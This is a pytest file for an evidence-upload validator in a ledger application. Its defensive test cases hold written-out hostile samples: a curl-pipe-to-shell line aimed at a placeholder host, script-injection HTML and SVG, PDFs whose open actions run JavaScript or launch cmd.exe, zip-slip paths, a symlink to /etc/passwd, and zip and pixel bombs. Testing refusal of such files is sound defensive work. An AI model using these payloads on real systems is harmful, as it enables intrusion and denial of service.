"""Evidence files (README "Evidence and closure review"): the type by the bytes, the refused kinds, bombs, photos
without their location, the zip rules, and files that belong to a measure across versions, on SQLite and PostgreSQL.
Every file is written in code here."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from datetime import date, datetime

import pytest
import sqlalchemy as sa
from PIL import Image

from ledger import evidence
from ledger.closure import measure_named, measures
from ledger.intake.evidence import (
    EvidenceLimits,
    Prepared,
    Refused,
    entry_name,
    examine,
    measure_of,
    prepare,
    sniff,
    strip,
    unpack,
    unpack_zip,
)
from ledger.publishing import check_upload, publish
from ledger.store import Store, audit_table, evidence_chunks_table, evidence_table
from tests.compound import compound
from tests.sheets import task_row, workbook

AT = datetime(2019, 6, 3, 9, 0)
DEFAULT = EvidenceLimits()
PLAN = "某中学整改方案"


# --- files written in code ----------------------------------------------------------------------------------------


def picture(width: int = 64, height: int = 48) -> Image.Image:
    image = Image.new("RGB", (width, height))
    image.putdata([(x * 4 % 256, y * 5 % 256, (x + y) % 256) for y in range(height) for x in range(width)])
    return image


def identifying_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "某品牌手机"
    exif[0x0110] = "Model X"
    exif[0x013B] = "办公室主任"  # Artist
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)})
    return exif


def photo(orientation: int = 6, trailer: bytes = b"MORE-IMAGES-WITH-GPS") -> bytes:
    """A phone photo: EXIF with GPS, camera and owner, XMP, a comment, and data after the image's end."""
    out = io.BytesIO()
    picture().save(
        out,
        "JPEG",
        exif=identifying_exif(orientation).tobytes(),
        comment="拍摄于家中".encode(),
        xmp=b"<x:xmpmeta><exif:GPSLatitude>39,54.45N</exif:GPSLatitude></x:xmpmeta>",
        quality=95,
    )
    return out.getvalue() + trailer


def png_with_metadata() -> bytes:
    out = io.BytesIO()
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "39.9N 116.4E")
    info.add_itxt("Author", "办公室主任")
    picture().save(out, "PNG", pnginfo=info, exif=identifying_exif(3).tobytes())
    return out.getvalue()


def webp_with_metadata() -> bytes:
    out = io.BytesIO()
    picture().save(out, "WEBP", lossless=True, exif=identifying_exif(8).tobytes(), xmp=b"<x:xmpmeta>GPS</x:xmpmeta>")
    return out.getvalue()


def gif_with_comment() -> bytes:
    out = io.BytesIO()
    picture().convert("P").save(out, "GIF", comment=b"GPS 39.9N 116.4E")
    return out.getvalue()


def tiff_with_gps() -> bytes:
    out = io.BytesIO()
    picture().save(out, "TIFF", exif=identifying_exif(1).tobytes())
    return out.getvalue()


def pdf(extra: str = "") -> bytes:
    """A one-page PDF with a text line (and `extra` in its catalogue), xref offsets right."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {extra}>>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
    ]
    stream = b"BT /F1 12 Tf 10 50 Td (evidence) Tj ET"
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    offsets.append(out.tell())
    out.write(b"4 0 obj\n<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream\nendobj\n")
    start = out.tell()
    out.write(b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out.write(b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start)
    return out.getvalue()


def zipped(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("党总支会议纪要")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "台账"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_macro(document: bytes) -> bytes:
    """A Word document with a VBA project added (as a .docm would carry it), whatever it is called."""
    source = zipfile.ZipFile(io.BytesIO(document))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr("word/vbaProject.bin", compound({"VBA/dir": b"Attribute VB_Name"}))
    return out.getvalue()


def check(tmp_path, name: str, data: bytes, limits: EvidenceLimits = DEFAULT) -> Prepared | Refused:
    source = tmp_path / "in.bin"
    source.write_bytes(data)
    return examine(str(source), str(tmp_path / "out.bin"), name, limits)


# --- the type, by the bytes -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "make", "kind"),
    [
        ("现场照片.jpg", photo, "jpeg"),
        ("扫描件.pdf", lambda: photo(), "jpeg"),  # a photo called .pdf is a photo
        ("会议纪要.jpg", pdf, "pdf"),  # and a PDF called .jpg a PDF
        ("截图.png", png_with_metadata, "png"),
        ("截图.webp", webp_with_metadata, "webp"),
        ("动图.gif", gif_with_comment, "gif"),
        ("扫描.tif", tiff_with_gps, "tiff"),
        ("纪要.docx", docx_bytes, "docx"),
        ("台账.xlsx", xlsx_bytes, "xlsx"),
        ("纪要.wps", lambda: compound({"WordDocument": b"\xec\xa5" + b"\x00" * 100, "1Table": b"t"}), "doc"),
        ("台账.et", lambda: compound({"Workbook": b"\x09\x08" + b"\x00" * 100}), "xls"),
        ("汇报.dps", lambda: compound({"PowerPoint Document": b"p", "Current User": b"u"}), "ppt"),
        ("公文.ofd", lambda: zipped({"OFD.xml": b"<ofd:OFD/>", "Doc_0/Document.xml": b"<ofd:Document/>"}), "ofd"),
    ],
)
def test_each_accepted_type_is_told_by_its_bytes_whatever_it_is_called(tmp_path, name, make, kind):
    found = check(tmp_path, name, make())
    assert isinstance(found, Prepared), found
    assert found.kind == kind
    # stored under its own name, with an ending that says what it is when the name says otherwise
    assert found.name == {"扫描件.pdf": "扫描件.pdf.jpg", "会议纪要.jpg": "会议纪要.jpg.pdf"}.get(name, name)


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("照片.jpg", b"MZ\x90\x00" + b"\x00" * 200, "evidence.program"),  # a Windows program called a photo
        ("报告.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "evidence.program"),
        ("说明.docx", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "evidence.program"),
        ("截图.png", b"<!DOCTYPE html><html><script>alert(1)</script></html>", "evidence.markup"),
        ("图标.png", b'\xef\xbb\xbf  <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "evidence.markup"),
        ("资料.docx", zipped({"a.txt": b"x", "b/c.pdf": b"%PDF-1.4"}), "evidence.archive"),
        ("资料.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "evidence.archive"),
        ("资料.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 64, "evidence.archive"),
        ("资料.pdf", b"\x1f\x8b\x08\x00" + b"\x00" * 64, "evidence.archive"),
        ("纪要.docx", with_macro(docx_bytes()), "evidence.macro"),
        ("纪要.doc", compound({"WordDocument": b"w", "Macros/VBA/dir": b"v"}), "evidence.macro"),
        ("台账.xls", compound({"Workbook": b"w", "_VBA_PROJECT_CUR/VBA/dir": b"v"}), "evidence.macro"),
        ("台账.xlsx", compound({"EncryptionInfo": b"e", "EncryptedPackage": b"p"}), "evidence.encrypted"),
        ("报告.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "), "evidence.pdf_active"),
        ("报告.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >> "), "evidence.pdf_active"),
        ("报告.pdf", pdf("/Names << /EmbeddedFiles 5 0 R >> "), "evidence.pdf_active"),
        ("说明.txt", "整改情况说明".encode(), "evidence.type"),
        ("空.jpg", b"", "evidence.empty"),
    ],
)
def test_programs_scripts_markup_archives_macros_and_active_pdfs_are_refused(tmp_path, name, data, code):
    found = check(tmp_path, name, data)
    assert isinstance(found, Refused) and found.code == code, found
    assert found.param("name") == name
    assert not (tmp_path / "out.bin").exists()  # nothing to store


def test_a_file_over_the_limit_is_refused_before_any_worker_starts(tmp_path):
    big = tmp_path / "大.jpg"
    big.write_bytes(photo() + b"\x00" * (2 * 1024 * 1024))
    [found] = prepare([("大.jpg", str(big))], str(tmp_path), EvidenceLimits(max_mib=1))
    assert isinstance(found, Refused) and found.code == "evidence.too_large"
    assert dict(found.params) == {"name": "大.jpg", "size": "2.0", "limit": 1}


def test_a_pixel_bomb_is_refused_by_pillows_own_limit_before_any_pixel_is_decoded(tmp_path):
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)  # 10 gigapixels declared
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )
    found = check(tmp_path, "巨图.png", bomb)
    assert isinstance(found, Refused) and found.code == "evidence.pixel_bomb"
    assert found.param("limit") == f"{Image.MAX_IMAGE_PIXELS / 1e6:.0f}"


def test_a_document_that_unpacks_to_a_bomb_is_refused_from_its_directory(tmp_path):
    document = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in document.infolist():
            bomb.writestr(item, document.read(item.filename))
        bomb.writestr("word/media/image1.bmp", b"\x00" * (30 * 1024 * 1024))  # 30 MiB in ~30 KiB
    found = check(tmp_path, "纪要.docx", out.getvalue())
    assert isinstance(found, Refused) and found.code == "evidence.bomb"


@pytest.mark.parametrize(
    ("head", "kind"),
    [
        (b"\xff\xd8\xff\xe0", "jpeg"),
        (b"\x89PNG\r\n\x1a\n", "png"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8L", "webp"),
        (b"%PDF-1.7", "pdf"),
        (b"\n\n%PDF-1.4", "pdf"),  # a PDF may start a little late
        (b"PK\x03\x04", "zip"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "cfb"),
        (b"\x00\x00\x00\x18ftypheic", "type"),  # HEIC: not taken (a phone can share it as JPEG)
    ],
)
def test_sniff_reads_the_first_bytes(head, kind):
    assert sniff(head + b"\x00" * 64) == kind


# --- photos keep no location ----------------------------------------------------------------------------------------


def test_a_photo_keeps_its_pixels_and_orientation_and_loses_gps_camera_owner_xmp_comment_and_trailer(tmp_path):
    original = photo(orientation=6)
    found = check(tmp_path, "现场照片.jpg", original)
    assert isinstance(found, Prepared) and found.stripped
    stored = (tmp_path / "out.bin").read_bytes()
    assert found.size == len(stored) and len(stored) < len(original)
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(stored)) as after:
        assert dict(before.getexif().get_ifd(0x8825))  # the original had a location
        assert dict(after.getexif()) == {0x0112: 6}  # only the orientation is left
        assert dict(after.getexif().get_ifd(0x8825)) == {}
        assert "xmp" not in after.info and "comment" not in after.info
        assert after.tobytes() == before.tobytes()  # the image itself untouched, pixel for pixel
        assert after.size == before.size
    for secret in (b"MORE-IMAGES", "办公室主任".encode(), "家中".encode(), b"GPSLatitude", "某品牌".encode()):
        assert secret not in stored


def test_a_photo_without_metadata_is_stored_as_it_is(tmp_path):
    out = io.BytesIO()
    picture().save(out, "JPEG", quality=90)
    found = check(tmp_path, "照片.jpg", out.getvalue())
    assert isinstance(found, Prepared) and not found.stripped
    assert (tmp_path / "out.bin").read_bytes() == out.getvalue()


@pytest.mark.parametrize(
    ("make", "kind", "orientation"),
    [
        (png_with_metadata, "png", 3),
        (webp_with_metadata, "webp", 8),
        (gif_with_comment, "gif", None),
        (tiff_with_gps, "tiff", None),
    ],
)
def test_other_images_lose_their_metadata_and_keep_their_pixels(make, kind, orientation):
    original = make()
    stored = strip(original, kind)
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(stored)) as after:
        assert after.format == before.format
        assert dict(after.getexif().get_ifd(0x8825)) == {}
        assert after.getexif().get(0x010F) is None and after.getexif().get(0x013B) is None
        assert after.getexif().get(0x0112) == orientation
        assert not {"Location", "Author", "comment", "xmp", "XML:com.adobe.xmp"} & set(after.info)
        assert after.convert("RGB").tobytes() == before.convert("RGB").tobytes()
    assert b"39.9N" not in stored and "办公室主任".encode() not in stored


# --- zips of evidence ------------------------------------------------------------------------------------------------


def test_a_measure_is_found_from_its_folder_or_file_name_prefix():
    ids = ["1", "6", "14", "1.2"]
    assert measure_of("6/分工文件.pdf", ids) == "6"
    assert measure_of("14-截图/净网行动.png", ids) == "14"
    assert measure_of("14/子文件夹/图.png", ids) == "14"
    assert measure_of("6-分工文件.pdf", ids) == "6"
    assert measure_of("1.2 学习记录.pdf", ids) == "1.2"  # the longest 序号 that fits
    assert measure_of("61/x.pdf", ids) == ""  # 61 is not 6
    assert measure_of("说明.pdf", ids) == ""


def evidence_zip(tmp_path) -> bytes:
    """A zip as an office arranges it, with everything a careless or hostile one may hold."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("6/分工文件.pdf", pdf())
        archive.writestr("14-截图/净网行动.png", png_with_metadata())
        archive.writestr("../../逃逸.pdf", pdf())  # a zip slip
        archive.writestr("/etc/cron.d/x.pdf", pdf())
        link = zipfile.ZipInfo("6/链接.pdf")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("99/不存在的措施.pdf", pdf())
        archive.writestr("6/又一个包.zip", zipped({"x.pdf": pdf()}))
        archive.writestr("6/运行.exe", b"MZ" + b"\x00" * 100)
        archive.writestr("__MACOSX/6/._分工文件.pdf", b"\x00")
        archive.writestr("6/", b"")
        archive.writestr("6/ABCD.jpg", photo())  # renamed below as Windows writes it: GBK, no UTF-8 flag
    gbk = "6/照片.jpg".encode("gbk")
    assert len(gbk) == len(b"6/ABCD.jpg")
    return out.getvalue().replace(b"6/ABCD.jpg", gbk)


def test_a_zip_is_unpacked_for_known_measures_and_everything_else_is_listed_with_its_reason(tmp_path):
    source = tmp_path / "佐证材料.zip"
    source.write_bytes(evidence_zip(tmp_path))
    work = tmp_path / "work"
    work.mkdir()
    found = unpack(str(source), str(work), ["6", "14"], EvidenceLimits())
    assert found.refusal is None and found.ignored == 2  # the folder and the Mac's file
    taken = {(e.path, e.measure, e.prepared.kind) for e in found.taken}
    assert taken == {("6/分工文件.pdf", "6", "pdf"), ("14-截图/净网行动.png", "14", "png"), ("6/照片.jpg", "6", "jpeg")}
    skipped = {e.path: e.reason for e in found.skipped}
    assert skipped == {
        "../../逃逸.pdf": "evidence.skip_outside",
        "/etc/cron.d/x.pdf": "evidence.skip_outside",
        "6/链接.pdf": "evidence.skip_link",
        "99/不存在的措施.pdf": "evidence.skip_measure",
        "6/又一个包.zip": "evidence.skip_archive",
        "6/运行.exe": "evidence.skip_refused",
    }
    assert [e.refusal.code for e in found.skipped if e.refusal] == ["evidence.program"]
    assert not (tmp_path / "逃逸.pdf").exists() and not list(tmp_path.parent.glob("逃逸*"))
    assert sorted(os.listdir(work)) == sorted(os.path.basename(e.prepared.path) for e in found.taken)


def test_a_zip_bomb_is_refused_before_anything_is_unpacked(tmp_path):
    source = tmp_path / "炸弹.zip"
    source.write_bytes(zipped({"6/a.pdf": pdf(), "6/b.bmp": b"\x00" * (40 * 1024 * 1024)}))
    work = tmp_path / "work"
    work.mkdir()
    found = unpack_zip(str(source), str(work), ["6"], EvidenceLimits())
    assert found.refusal is not None and found.refusal.code == "evidence.zip_bomb" and found.entries == ()
    assert os.listdir(work) == []
    too_much = unpack_zip(str(source), str(work), ["6"], EvidenceLimits(max_zip_mib=0))
    assert too_much.refusal is not None and too_much.refusal.code == "evidence.zip_too_large"


def test_entry_names_written_by_windows_in_gbk_are_read_as_chinese():
    info = zipfile.ZipInfo("x")
    info.filename = "佐证/会议.pdf".encode("gbk").decode("cp437")
    assert entry_name(info) == "佐证/会议.pdf"
    flagged = zipfile.ZipInfo("佐证/会议.pdf")
    flagged.flag_bits |= 0x800
    assert entry_name(flagged) == "佐证/会议.pdf"


# --- stored with the measure, across versions -----------------------------------------------------------------------


def week(report: date, statuses: dict[int, str], notes: dict[int, str] | None = None) -> bytes:
    notes = notes or {}
    rows = [
        task_row(
            id=i,
            measure=f"第{i}项整改措施",
            status=statuses.get(i, "进行中"),
            progress=100 if statuses.get(i) == "已完成" else 50,
            completed_on=date(2019, 5, 30) if statuses.get(i) == "已完成" else None,
            notes=notes.get(i, ""),
        )
        for i in range(1, 8)
    ]
    above = (
        ["整改台账"],
        ["填报单位：党政办公室", "", "", "", "", "", "", "", "", f"填报日期：{report:%Y年%-m月%-d日}"],
    )
    return workbook(rows, above=above)


def publish_week(store: Store, report: date, statuses: dict[int, str], notes: dict[int, str] | None = None):
    plan = store.plan_for(PLAN, created_at=AT)
    files = [(f"台账{report}.xlsx", week(report, statuses, notes))]
    ledger = check_upload(store, files, report, plan_id=plan.id)
    assert not ledger.errors, ledger.errors
    return publish(
        store, files, ledger, plan=plan.id, uploaded_by="办公室主任", uploaded_at=datetime.combine(report, AT.time())
    )


def test_files_belong_to_the_measure_and_next_weeks_ledger_shows_the_same_files(store, tmp_path):
    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    plan = store.plan_named(PLAN)
    six = measure_named(store, plan.id, None, "6")
    paths = [(name, str(tmp_path / name)) for name in ("分工文件.pdf", "现场照片.jpg")]
    (tmp_path / "分工文件.pdf").write_bytes(pdf())
    (tmp_path / "现场照片.jpg").write_bytes(photo())
    outcome = evidence.add_files(store, six, paths, by="办公室主任", at=AT, address="10.0.0.7")
    assert outcome.refused == () and [f.name for f in outcome.added.files] == ["分工文件.pdf", "现场照片.jpg"]
    publish_week(store, date(2019, 6, 3), {6: "已完成", 2: "已完成"})
    again = measure_named(store, plan.id, None, "6")
    assert again.key == six.key
    listed = evidence.files(store, plan.id, None, again.key)
    assert [(f.measure, f.name, f.kind, f.by) for f in listed] == [
        ("6", "分工文件.pdf", "pdf", "办公室主任"),
        ("6", "现场照片.jpg", "jpeg", "办公室主任"),
    ]
    stored_photo = evidence.content(store, listed[1].id)
    assert stored_photo == strip(photo(), "jpeg") and listed[1].stripped
    assert (
        listed[1].size == len(stored_photo)
        and listed[1].sha256 == __import__("hashlib").sha256(stored_photo).hexdigest()
    )
    assert evidence.content(store, listed[0].id) == pdf()
    with store.engine.connect() as conn:
        trail = conn.execute(sa.select(audit_table.c.action, audit_table.c.target).order_by(audit_table.c.id)).all()
    assert [tuple(r) for r in trail if r[0] == "evidence_added"] == [
        ("evidence_added", "6: 分工文件.pdf"),
        ("evidence_added", "6: 现场照片.jpg"),
    ]
    assert evidence.counts(store, plan.id) == {(None, six.key): 2}


def test_a_file_is_stored_in_pieces_and_read_back_a_piece_at_a_time(store, tmp_path):
    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    six = measure_named(store, store.plan_named(PLAN).id, None, "6")
    # 2.5 MiB: three pieces. Without "/": random bytes would now and then spell a PDF action name (/JS, /AA…), and a
    # PDF that declares an action is refused.
    big = pdf() + b"%" + os.urandom(2_600_000).replace(b"/", b"0")
    (tmp_path / "大报告.pdf").write_bytes(big)
    [stored] = evidence.add_files(store, six, [("大报告.pdf", str(tmp_path / "大报告.pdf"))], by="x", at=AT).added.files
    with store.engine.connect() as conn:
        sizes = (
            conn.execute(
                sa.select(sa.func.length(evidence_chunks_table.c.data))
                .where(evidence_chunks_table.c.evidence_id == stored.id)
                .order_by(evidence_chunks_table.c.position)
            )
            .scalars()
            .all()
        )
    assert sizes == [1024 * 1024, 1024 * 1024, len(big) - 2 * 1024 * 1024]
    assert [len(piece) for piece in evidence.chunks(store, stored.id)] == sizes
    assert evidence.write_to(store, stored.id, str(tmp_path / "back.pdf")) == len(big)
    assert (tmp_path / "back.pdf").read_bytes() == big


def test_one_refused_file_stores_nothing_and_a_file_already_attached_is_not_stored_twice(store, tmp_path):
    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    six = measure_named(store, store.plan_named(PLAN).id, None, "6")
    (tmp_path / "纪要.pdf").write_bytes(pdf())
    (tmp_path / "照片.jpg").write_bytes(b"MZ" + b"\x00" * 64)
    before = store.counts()
    outcome = evidence.add_files(
        store, six, [("纪要.pdf", str(tmp_path / "纪要.pdf")), ("照片.jpg", str(tmp_path / "照片.jpg"))], by="x", at=AT
    )
    assert [(name, r.code) for name, r in outcome.refused] == [("照片.jpg", "evidence.program")]
    assert store.counts() == before
    first = evidence.add_files(store, six, [("纪要.pdf", str(tmp_path / "纪要.pdf"))], by="x", at=AT)
    again = evidence.add_files(store, six, [("纪要副本.pdf", str(tmp_path / "纪要.pdf"))], by="x", at=AT)
    assert len(first.added.files) == 1 and again.added.files == () and again.added.duplicates == ("纪要副本.pdf",)


def test_a_measure_takes_at_most_its_limit_of_files(store, tmp_path):
    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    six = measure_named(store, store.plan_named(PLAN).id, None, "6")
    paths = []
    for n in range(3):
        (tmp_path / f"{n}.pdf").write_bytes(pdf(f"/Lang ({n}) "))
        paths.append((f"{n}.pdf", str(tmp_path / f"{n}.pdf")))
    before = store.counts()
    with pytest.raises(evidence.EvidenceError) as refused:
        evidence.add_files(store, six, paths, by="x", at=AT, limits=EvidenceLimits(max_files=2))
    assert refused.value.code == "evidence.too_many" and refused.value.params == {"measure": "6", "limit": 2}
    assert store.counts() == before


def test_a_zip_import_stores_what_it_can_and_lists_the_rest(store, tmp_path):
    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    plan = store.plan_named(PLAN)
    source = tmp_path / "佐证.zip"
    source.write_bytes(zipped({"6/分工文件.pdf": pdf(), "7-截图/净网.png": png_with_metadata(), "../x.pdf": pdf()}))
    result = evidence.import_zip(store, measures(store, plan.id, None), str(source), by="办公室主任", at=AT)
    assert [(f.measure, f.name) for f in result.added.files] == [("6", "分工文件.pdf"), ("7", "净网.png")]
    assert result.skipped_records() == [
        {"entry": "../x.pdf", "measure": "", "reason": "evidence.skip_outside", "detail": ""}
    ]
    with store.engine.connect() as conn:
        [(action, detail)] = conn.execute(
            sa.select(audit_table.c.action, audit_table.c.detail).where(audit_table.c.action == "evidence_imported")
        ).all()
    assert action == "evidence_imported" and '"evidence": [1, 2]' in detail


def test_a_schema_7_store_gains_the_evidence_tables_and_keeps_its_versions(store, url):
    from ledger.store import SCHEMA_VERSION, meta_table

    publish_week(store, date(2019, 5, 27), {6: "已完成"})
    with store.engine.begin() as conn:  # as a store made before schema 8 is
        for name in (
            "ledger_summaries",
            "ledger_spot_checks",
            "ledger_closure",
            "ledger_evidence_chunks",
            "ledger_evidence",
        ):
            conn.execute(sa.text(f"DROP TABLE {name}"))
        conn.execute(meta_table.update().where(meta_table.c.key == "schema_version").values(value="7"))
    store.dispose()
    upgraded = Store(url)
    with upgraded.engine.connect() as conn:
        assert sa.inspect(conn).has_table(evidence_table.name) and sa.inspect(conn).has_table("ledger_summaries")
        assert conn.execute(sa.select(meta_table.c.value).where(meta_table.c.key == "schema_version")).scalar() == str(
            SCHEMA_VERSION
        )
    assert SCHEMA_VERSION == 9
    assert [v.report_date for v in upgraded.versions(upgraded.plan_named(PLAN).id)] == [date(2019, 5, 27)]
    six = measure_named(upgraded, upgraded.plan_named(PLAN).id, None, "6")
    assert six is not None and six.text == "第6项整改措施"
    upgraded.dispose()


def test_previews_are_images_drawn_on_the_server_a_photo_upright_and_a_pdfs_first_pages():
    from ledger.intake import evidence_preview

    shown = evidence_preview(strip(photo(orientation=6), "jpeg"), "jpeg")
    [image] = shown.images
    with Image.open(io.BytesIO(image)) as drawn:
        assert (drawn.format, drawn.size) == ("JPEG", (48, 64))  # turned upright: 64×48 rotated a quarter
        assert not drawn.getexif()
    document = evidence_preview(pdf(), "pdf")
    assert document.pages == 1 and len(document.images) == 1
    with Image.open(io.BytesIO(document.images[0])) as page:
        assert page.format == "PNG" and page.size[0] > page.size[1]  # 200 × 100 pt, drawn by PDFium
    refused = evidence_preview(docx_bytes(), "docx")
    assert isinstance(refused, Refused) and refused.code == "evidence.no_preview"
